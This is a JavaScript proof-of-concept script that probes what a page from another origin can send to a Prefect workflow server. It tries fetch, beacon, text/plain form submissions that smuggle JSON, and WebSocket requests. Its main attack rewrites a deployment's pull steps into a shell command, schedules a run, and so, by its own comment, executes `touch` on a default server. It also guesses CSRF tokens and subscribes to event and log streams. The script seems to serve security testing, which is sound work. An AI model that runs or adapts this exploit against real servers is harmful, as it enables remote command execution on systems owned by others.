// What a page from another origin can send to a Prefect server. It wants to change the pull steps of a deployment,
// which are shell commands, to start a run, and to listen. Returns one row per attempt: its name, what came back.
// On a server with Prefect's defaults `touch` is executed.
async ({ target, deployment, marker, auth }) => {
  const api = `${target}/api`;
  const rows = [];
  const seen = async (name, attempt) => {
    const limit = new Promise((resolve) => setTimeout(resolve, 10000, "no answer"));
    rows.push([name, await Promise.race([attempt().catch((error) => `refused: ${error.message}`), limit])]);
  };
  const answer = async (response) => `${response.type} ${response.status} ${(await response.text()).slice(0, 200)}`;

  const shell = { "prefect.deployments.steps.run_shell_script": { script: `touch ${marker}` } };
  const writes = [
    ["PATCH", `/deployments/${deployment}`, { pull_steps: [shell] }],
    ["POST", `/deployments/${deployment}/create_flow_run`, { state: { type: "SCHEDULED" } }],
    ["POST", "/flows/", { name: "hostile" }],
    ["POST", "/variables/", { name: "hostile", value: "hostile" }],
    ["PUT", "/automations/00000000-0000-0000-0000-000000000000", {}],
  ];
  const kinds = ["application/json", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data", ""];
  const token = `Basic ${btoa(auth)}`;
  const secrets = [{}, { Authorization: token, "Prefect-Csrf-Token": "guess", "Prefect-Csrf-Client": "guess" }];

  for (const path of ["/deployments/filter", "/flow_runs/filter", "/block_documents/filter"]) {
    for (const mode of ["cors", "no-cors"]) {
      const body = new Blob(["{}"], { type: "application/json" });
      await seen(`read ${path} ${mode}`, async () => answer(await fetch(api + path, { method: "POST", mode, body })));
    }
  }
  for (const path of ["/csrf-token?client=guess", "/admin/settings", "/deployments/" + deployment]) {
    for (const mode of ["cors", "no-cors"]) {
      await seen(`read ${path} ${mode}`, async () => answer(await fetch(api + path, { mode })));
    }
  }
  for (const [method, path, value] of writes) {
    for (const kind of kinds) {
      for (const mode of method === "POST" ? ["cors", "no-cors"] : ["cors"]) {
        for (const headers of mode === "cors" ? secrets : [{}]) {
          const body = new Blob([JSON.stringify(value)], { type: kind }); // no type: no Content-Type at all
          const options = { method, mode, headers, body };
          const name = `${method} ${path} ${kind || "no type"} ${mode}${headers.Authorization ? " with headers" : ""}`;
          await seen(name, async () => answer(await fetch(api + path, options)));
        }
      }
    }
    if (method === "POST") {
      await seen(`beacon ${path}`, async () => {
        navigator.sendBeacon(api + path, new Blob([JSON.stringify(value)], { type: "text/plain" }));
        return "sent";
      });
      for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
        await seen(`form ${path} ${enctype}`, async () => {
          const frame = Object.assign(document.createElement("iframe"), { name: `frame${rows.length}` });
          document.body.append(frame);
          const form = document.body.appendChild(document.createElement("form"));
          Object.assign(form, { action: api + path, method: "POST", enctype, target: frame.name });
          const field = form.appendChild(document.createElement("input")); // as text/plain this is JSON
          [field.name, field.value] = [JSON.stringify(value).slice(0, -1) + ',"x":"', '"}'];
          const loaded = new Promise((resolve) => (frame.onload = resolve));
          form.submit();
          await loaded;
          return "sent";
        });
      }
    }
  }
  for (const path of ["/events/in", "/events/out", "/logs/out", "/task_runs/subscriptions/scheduled"]) {
    for (const protocols of [[], ["prefect"]]) {
      await seen(`websocket ${path} ${protocols}`, () => new Promise((resolve, reject) => {
        const socket = new WebSocket(api.replace("http", "ws") + path, protocols);
        socket.onopen = () => {
          socket.send(JSON.stringify({ type: "auth", token: auth }));
          socket.send(JSON.stringify({ type: "filter", filter: {} }));
          if (!protocols.length) resolve("open");
        };
        socket.onmessage = (event) => resolve(`message ${event.data}`);
        socket.onclose = (event) => reject(Error(`closed ${event.code}`));
      }));
    }
  }
  return rows;
}
